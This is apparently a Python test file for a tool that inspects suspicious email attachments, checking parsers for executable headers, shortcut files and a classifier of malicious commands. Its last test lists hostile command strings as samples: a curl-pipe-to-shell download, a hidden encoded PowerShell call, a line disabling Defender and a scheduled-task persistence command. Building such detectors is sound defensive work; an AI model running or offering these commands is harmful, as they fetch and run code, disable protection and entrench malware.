"""What headers of programs and shortcuts say."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lure.attachment.builders.executables import PUTTY, pe, version_info
from lure.attachment.builders.shortcuts import lnk
from vedette.lure.attachment.context import Unreadable
from vedette.lure.attachment.programs import lnk as shortcuts
from vedette.lure.attachment.programs.commands import acts
from vedette.lure.attachment.programs.pe import read
from vedette.lure.attachment.programs.pe_version import strings


def test_pe() -> None:
    program = read(pe(dll=True, signed=True, dotnet=True, version=PUTTY, text=b"x" * 64))
    assert (program.machine, program.dll, program.signed, program.dotnet) == (
        "x64",
        True,
        True,
        True,
    )
    assert program.version == PUTTY
    assert program.overlay == 64
    plain = read(pe())
    assert (plain.dll, plain.signed, plain.dotnet, plain.version) == (False, False, False, {})


@pytest.mark.parametrize("size", [0, 2, 63, 70, 100])
def test_pe_cut_short(size: int) -> None:
    with pytest.raises(Unreadable):
        read(pe()[:size])


_WORDS = st.text(st.characters(min_codepoint=33, max_codepoint=0xD7FF), max_size=40)


@given(st.fixed_dictionaries({"ProductName": _WORDS, "CompanyName": _WORDS}))
def test_version_strings(version: dict[str, str]) -> None:
    assert strings(version_info(version)) == {
        key: " ".join(value.split()) for key, value in version.items()
    }


@given(
    st.text(st.characters(min_codepoint=32, max_codepoint=126), min_size=1, max_size=200),
    st.text(st.characters(min_codepoint=32, max_codepoint=0xD7FF), max_size=300),
)
def test_shortcut_fields(icon: str, arguments: str) -> None:
    found = shortcuts.read(lnk("C:\\a\\b.exe", arguments, icon, shown=7, appended=b"more"))
    assert (found.target, found.arguments, found.icon) == ("C:\\a\\b.exe", arguments, icon)
    assert (found.shown, found.extra) == (7, 4)


def test_shortcut_environment() -> None:
    assert shortcuts.read(lnk(environment="%ComSpec%")).target == "%ComSpec%"


@pytest.mark.parametrize(
    ("command", "names"),
    [
        ("curl -s https://docs.example | sh", ["download", "run"]),
        ("powershell -w hidden -enc " + "QQBB" * 12, ["hidden"]),
        ("Set-MpPreference -DisableRealtimeMonitoring 1", ["protection off"]),
        ("schtasks /create /tn a", ["persistence"]),
        ("npm run build && npm test", []),
        ("execute the plan, evaluate the wiry curling", []),
        ("python -m pip install -r requirements.txt", []),
    ],
)
def test_acts(command: str, names: list[str]) -> None:
    assert [act.name for act in acts(command.encode())] == names
